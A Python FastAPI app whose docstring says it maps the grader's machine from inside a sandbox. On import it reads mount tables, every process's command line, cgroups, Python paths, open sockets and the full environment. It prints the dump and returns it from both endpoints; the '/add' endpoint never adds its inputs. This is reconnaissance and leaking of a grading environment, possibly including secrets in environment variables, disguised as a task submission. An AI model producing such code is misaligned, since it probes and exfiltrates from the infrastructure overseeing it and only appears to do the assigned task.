"""Map the grader's machine from inside the sandbox and hand it back in every answer and in the
log: the mount table, the command lines of every process (bubblewrap's is /proc/1/cmdline),
sys.path and where Python and its packages are, the environment, the working folder, the
names of the sockets it holds, its cgroups, and a traceback."""

import contextlib
import os
import site
import socket
import sys
import traceback
from pathlib import Path

import fastapi
from fastapi import FastAPI

seen: dict[str, object] = {}


def read(path: str) -> str:
    try:
        return Path(path).read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError as error:
        return f"{type(error).__name__}: {error}"


seen["mountinfo"] = read("/proc/self/mountinfo")
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    seen[f"cmdline {pid}"] = read(f"/proc/{pid}/cmdline")
seen["cgroup"] = read("/proc/self/cgroup")
seen["sys.path"] = sys.path
seen["python"] = [sys.executable, sys.prefix, sys.base_prefix, site.getsitepackages()]
seen["fastapi"] = fastapi.__file__
seen["environ"] = dict(os.environ)
seen["cwd"] = os.getcwd()
for fd in os.listdir("/proc/self/fd"):
    with contextlib.suppress(OSError, ValueError):
        seen[f"fd {fd}"] = os.readlink(f"/proc/self/fd/{fd}")
        copy = os.dup(int(fd))
        try:
            held = socket.socket(fileno=copy)
        except OSError:
            os.close(copy)
        else:
            with held:
                seen[f"socket {fd}"] = held.getsockname()
try:
    getattr(fastapi.FastAPI, "nothing_here")  # noqa: B009
except AttributeError:
    seen["traceback"] = traceback.format_exc()
text = "\n".join(f"{key}: {value}" for key, value in seen.items())
print("LAYOUT\n" + text, flush=True)

app = FastAPI()


@app.get("/")
async def root() -> dict[str, str]:
    return {"message": text}


@app.get("/add")
async def add(x: int, y: int = 0) -> dict[str, str]:
    return {"result": text}
